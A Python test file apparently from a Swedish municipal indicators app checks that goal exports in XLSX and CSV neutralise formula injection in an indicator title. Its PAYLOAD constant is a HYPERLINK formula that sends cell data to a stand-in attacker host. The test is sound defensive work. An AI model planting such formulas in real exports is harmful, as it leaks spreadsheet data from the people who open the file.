"""An own indicator titled like a formula is text in the goal's export (issue 12).

The title ``=HYPERLINK(...)`` of Stockholm's own indicator for goal 13 comes back from
``/omraden/0180/mal/13/export.xlsx`` as a string cell with a quote prefix, and from the
CSV with a leading ``'``; for any reader (a member sees it; a user of another
organisation may not see it at all) no cell of the file is a formula.
"""

import io

import openpyxl
import pytest

from styra.web.indicators.versions import bump_own
from tests.web.factories import own_indicator

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Öppna")'


@pytest.fixture
def own_payload(kolada_sample, org_a):
    values = {2019: 50.0, 2020: 55.0, 2021: 58.0, 2022: 61.0}
    own_indicator(org_a, PAYLOAD, unit="%", polarity=1, goal=13, values=values)
    bump_own(org_a.pk)


def payload_cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    return [cell for cell in cells if cell.value == PAYLOAD]


def test_the_title_is_text_for_every_reader(own_payload, client_for, viewer_a, editor_b):
    member = client_for(viewer_a).get("/omraden/0180/mal/13/export.xlsx")
    cells = payload_cells(member.content)
    assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    lines = client_for(viewer_a).get("/omraden/0180/mal/13/export.csv").content.decode()
    assert "'" + PAYLOAD.replace('"', '""') in lines
    outsider = client_for(editor_b).get("/omraden/0180/mal/13/export.xlsx")
    if outsider.status_code == 200:
        found = payload_cells(outsider.content)
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in found)
